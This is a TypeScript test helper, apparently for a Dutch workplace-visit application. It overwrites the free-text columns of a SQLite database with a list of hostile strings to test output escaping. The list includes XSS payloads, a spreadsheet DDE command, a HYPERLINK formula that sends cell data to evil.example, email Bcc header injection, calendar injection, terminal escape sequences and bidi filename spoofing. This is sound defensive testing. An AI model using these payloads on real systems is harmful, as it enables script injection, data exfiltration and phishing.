// Names and words that try to be more than text, and a house in which everybody is called so.
import BetterSqlite3 from 'better-sqlite3';
import { afterOthers } from './touchedTables.ts';

/** What each tries to become, by what it is called in the list; and a part of it that comes out however it is shown. */
export const HOSTILE_TEXTS: Readonly<Record<string, { text: string; mark: string }>> = {
  'a script': { text: '<script>alert("hack")</script>', mark: 'hack' },
  'a picture that runs': { text: `"><img src=x onerror='alert(1)'>`, mark: 'onerror' },
  'a mention of everybody': { text: '<at>Iedereen</at>', mark: 'Iedereen' },
  'a link': { text: '[klik hier](https://evil.example/inloggen)', mark: 'klik hier' },
  'a link with data': { text: '[f](data:text/html;base64,PHN2Zz4=) javascript:alert(2)', mark: 'PHN2Zz4' },
  'a picture from elsewhere': { text: '![logo](https://evil.example/spion.png)', mark: 'spion.png' },
  'markdown': { text: '**vet** _schuin_ ~~weg~~ `code`\n# Kop\n- punt', mark: 'schuin' },
  'other directions': { text: 'factuur\u202Egpj.exe\u202C\u2067links\u2069\u200F\u061C', mark: 'gpj.exe' },
  'a macro of cards': { text: '{{DATE(2026-01-01T00:00:00Z,SHORT)}}', mark: 'DATE(2026' },
  'a template': { text: '${$root.geheim} {name} {employer} {0} $& $1 $` %s', mark: 'root.geheim' },
  'a formula': { text: '\t=HYPERLINK("https://evil.example/?"&A1,"klik")', mark: 'HYPERLINK' },
  'a command of a spreadsheet': { text: "@SUM(1+1)*cmd|' /C calc'!A0", mark: 'calc' },
  'lines of a letter': { text: 'x\r\nBcc: dief@evil.example\r\n\r\nBetaal op rekening 666', mark: 'rekening 666' },
  'lines of a calendar': { text: 'x\nEND:VEVENT\r\nBEGIN:VEVENT\rATTENDEE:mailto:dief@evil.example', mark: 'BEGIN:VEVENT' },
  'orders to a terminal': { text: 'x\u001B]0;overgenomen\u0007\u001B[2J\u009B31m\u001B[8m', mark: 'overgenomen' },
  'entities': { text: '&lt;b&gt;vet&#60;i&#62;&amp;amp;', mark: 'lt;b' },
  'what nobody sees': { text: 'leegte\u0000\u0008\uFEFF\u2028\u{E0041}\u{E007F}', mark: 'leegte' },
}; // prettier-ignore

const TEXTS = Object.values(HOSTILE_TEXTS).map(({ text }) => text);
/** What a spreadsheet computes stands first, everything else comes after the name. */
const FIRST = /^[\t@]/;

/** The name as an attacker would have it, the nth of them. */
export function hostileName(name: string, nth: number): string {
  const text = TEXTS[nth % TEXTS.length]!;
  return FIRST.test(text) ? `${text} ${name}` : `${name} ${text}`;
}

/** Columns in which words stand that somebody wrote: names, notes, subjects. */
export const WRITTEN: Readonly<Record<string, readonly string[]>> = {
  person: ['name', 'phone'],
  employer: ['name'],
  workplace: ['name', 'address', 'userCompany'],
  employee: ['name'],
  coworkerCoach: ['name', 'phone'],
  contactPerson: ['name', 'phone'],
  visitVersion: ['extraDescription', 'extraApprovedBy', 'note'],
  assignment: ['note'],
  request: ['employerName', 'callerName', 'callerPhone', 'subject'],
  unanswered: ['text'],
  dismissal: ['text'],
  correction: ['oldValue', 'newValue'],
};
/** Filled in also where there is nothing: whether it is there changes nothing else. */
const MAY_BE_EMPTY: ReadonlySet<string> = new Set(['note', 'userCompany', 'phone']);
/** Ids, keys, days and times, amounts of text that the house makes itself, and e-mail addresses, which are parsed. */
const CLOSED =
  /(?:^id|Id|[kK]ey|Day|day|Date|From|Start|End|On|By|Version|As|Kind|Time|Reason|[eE]mail|Outcome|Status)$|^(?:kind|role|reference|enterpriseNumber|aliases|status|mode|weekdays|payload|promised|who|action|subject|why|scope|channelId|files|counts|what|result|callerRole|wants|channel|reason|state|outcome|suspended|reasons|how|week|toldIn|version|audience|near|cause|givenBy|memory|body|figures|month|digest|totals|creditOf|bill|number|due|vat|bankAccount|lines|field)$/;

/** Their names are those of migrations and jobs. */
const OWN_NAMES: ReadonlySet<string> = new Set(['schemaVersion', 'jobRun']);

/** Text columns of a database that stand neither among those that people write nor among the closed ones. */
export function unjudgedColumns(file: string): string[] {
  const db = new BetterSqlite3(file, { readonly: true });
  try {
    return textColumns(db).flatMap(({ table, column }) =>
      WRITTEN[table]?.includes(column) || CLOSED.test(column) || OWN_NAMES.has(table)
        ? []
        : [`${table}.${column}`],
    );
  } finally {
    db.close();
  }
}

/** Gives everybody and everything in a store that is open elsewhere a hostile name. @returns how many */
export async function makeHostile(file: string): Promise<number> {
  const db = new BetterSqlite3(file, { timeout: 0 });
  let count = 0;
  try {
    db.function('hostile', (name) => hostileName(String(name ?? ''), (count += 1)).slice(0, 200));
    const updates = Object.entries(WRITTEN).flatMap(([table, columns]) =>
      columns.map(
        (column) =>
          `UPDATE "${table}" SET "${column}" = hostile("${column}")${MAY_BE_EMPTY.has(column) ? '' : ` WHERE "${column}" IS NOT NULL`};`,
      ),
    );
    // What is only added to in the house was written so from the start.
    const guards = db
      .prepare("SELECT name FROM sqlite_schema WHERE type = 'trigger' AND sql LIKE '%RAISE%'")
      .pluck()
      .all() as string[];
    const dropped = guards.map((name) => `DROP TRIGGER "${name}";`);
    await afterOthers(() => db.exec('BEGIN IMMEDIATE'));
    db.exec(`${dropped.join('\n')} ${updates.join('\n')} COMMIT;`);
  } finally {
    db.close();
  }
  return count;
}

function textColumns(db: BetterSqlite3.Database): { table: string; column: string }[] {
  const tables = db
    .prepare("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")
    .pluck()
    .all() as string[];
  return tables.flatMap((table) =>
    (db.prepare(`SELECT name, type FROM pragma_table_info('${table}')`).all() as { name: string; type: string }[]) // prettier-ignore
      .filter(({ type }) => type === 'TEXT')
      .map(({ name }) => ({ table, column: name })),
  );
}
